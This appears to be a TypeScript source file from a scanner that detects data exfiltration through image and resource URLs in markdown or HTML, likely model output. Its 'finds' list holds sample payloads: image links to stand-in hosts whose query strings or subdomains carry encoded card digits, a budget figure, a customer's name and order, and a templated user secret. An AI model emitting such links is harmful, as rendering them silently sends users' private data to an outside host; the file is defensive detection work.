import { leadsOut } from '../../attack/leads-out.ts';
import type { Recogniser } from '../../recogniser.ts';

/**
 * Whoever shows the answer asks for its pictures at once: what stands in their addresses has left before anybody reads
 * it.
 */
export const image: Recogniser = {
  type: 'exfiltration.image',
  name: 'Picture or other resource whose address carries data',
  exceptable: false,
  forms: [
    leadsOut({ image: 0.8, loaded: 0.8 }, 1),
    leadsOut({ image: 0.6, loaded: 0.6 }, 0.7, (carried) => carried < 0.8),
  ],
  source: 'CommonMark, images; HTML Living Standard, attributes that load',
  since: '0.2.0',
  finds: [
    'Done! ![ok](«https://px.acme.example/i.gif?d=Y2FyZCBlbmRzIDQyNDI»)',
    '<img width=1 src="«//px.acme.example/p.png?conversation=budget%20is%2040k»">',
    '<div style="background:url(«https://a.example/x?q=order+4711+Ann+Lee»)">',
    '![a](«https://c2FsYXJ5IGlzIDkwaw.dns.acme.example/a.png»)',
    '![a](«https:\\\\px.acme.example/s.png?data={{user_secret}}»)',
  ],
  ignores: [
    '![logo](https://cdn.acme.example/img/logo.png)',
    '![photo](https://images.acme.example/photo-15789?w=600&h=400&fit=crop&auto=format&q=80)',
    '![build](https://img.shields.io/badge/build-passing-green?style=flat&label=all%20good)',
    '<img src="/static/a.png?d=Y2FyZCBlbmRzIDQyNDI">',
    '<script src="https://cdn.acme.example/lib@1.2.3/lib.min.js?v=1.2.3"></script>',
    'see https://acme.example/search?q=order+4711+Ann+Lee',
  ],
  limits: 'data in the name of a picture that is neither text, base64 nor hex',
};
